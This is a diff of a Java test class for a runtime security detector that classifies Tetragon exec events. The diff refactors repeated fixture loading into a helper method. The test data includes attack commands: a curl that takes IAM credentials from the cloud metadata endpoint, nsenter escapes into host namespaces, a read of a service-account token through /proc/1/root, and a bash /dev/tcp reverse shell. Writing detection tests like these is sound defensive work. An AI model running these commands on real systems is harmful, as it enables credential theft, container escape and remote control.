@@ -95,10 +95,9 @@ class TetragonSignalsTest {
   @Test
   void anExecFetchingMetadataCredentialsIsCredentialAccess(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
       throws Exception {
-    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
-        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
-    String args = "\"arguments\":\"/srv/app/sync.py\"";
-    String binary = "\"binary\":\"/usr/bin/python3\"";
+    String template = execTemplate();
+    String args = TEMPLATE_ARGS;
+    String binary = TEMPLATE_BINARY;
     List<String> lines = List.of(
         template.replace(binary, "\"binary\":\"/usr/bin/curl\"").replace(args,
             "\"arguments\":\"-s -H X-aws-ec2-metadata-token: AQ http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role\""),
@@ -128,10 +127,9 @@ class TetragonSignalsTest {
   @Test
   void nsenterIntoTheHostsNamespacesFromAContainerIsPrivilegeEscalation(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
       throws Exception {
-    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
-        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
-    String args = "\"arguments\":\"/srv/app/sync.py\"";
-    String binary = "\"binary\":\"/usr/bin/python3\"";
+    String template = execTemplate();
+    String args = TEMPLATE_ARGS;
+    String binary = TEMPLATE_BINARY;
     List<String> lines = List.of(
         template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"-t 1 -m -u -i -n -p -- bash\""),
         template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"--target=1 --mount -- sh\""),
@@ -159,10 +157,9 @@ class TetragonSignalsTest {
   @Test
   void aCredentialFileReadThroughAnotherProcesssRootIsCredentialAccess(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
       throws Exception {
-    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
-        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
-    String args = "\"arguments\":\"/srv/app/sync.py\"";
-    String binary = "\"binary\":\"/usr/bin/python3\"";
+    String template = execTemplate();
+    String args = TEMPLATE_ARGS;
+    String binary = TEMPLATE_BINARY;
     List<String> lines = List.of(
         template.replace(binary, "\"binary\":\"/usr/bin/cat\"")
             .replace(args, "\"arguments\":\"/proc/1/root/var/run/secrets/eks.amazonaws.com/serviceaccount/token\""),
@@ -191,10 +188,9 @@ class TetragonSignalsTest {
   /** bash's /dev/tcp redirection is a reverse shell (CrioKubeadmScenarioIT's notebook); a plain bash -c is not. */
   @Test
   void aShellRedirectedToASocketIsAReverseShell(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
-    String template = java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
-        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
-    String args = "\"arguments\":\"/srv/app/sync.py\"";
-    String binary = "\"binary\":\"/usr/bin/python3\"";
+    String template = execTemplate();
+    String args = TEMPLATE_ARGS;
+    String binary = TEMPLATE_BINARY;
     List<String> lines = List.of(
         template.replace(binary, "\"binary\":\"/bin/bash\"").replace(args,
             "\"arguments\":\"-c \\\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\\\"\""),
@@ -208,5 +204,15 @@ class TetragonSignalsTest {
     assertThat(s.reason()).isEqualTo("tetragon_reverse_shell");
     assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.EXECUTION);
     assertThat(SignalRules.defaults().classify(execs.get(1))).isNull();
+  }
+
+  /** The arguments and binary of {@link #execTemplate}'s exec, for a test to replace. */
+  static final String TEMPLATE_ARGS = "\"arguments\":\"/srv/app/sync.py\"";
+  static final String TEMPLATE_BINARY = "\"binary\":\"/usr/bin/python3\"";
+
+  /** The last Tetragon exec of the signals fixture: a python3 exec in a pod, for a test to vary. */
+  static String execTemplate() throws java.io.IOException {
+    return java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
+        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
   }
 }
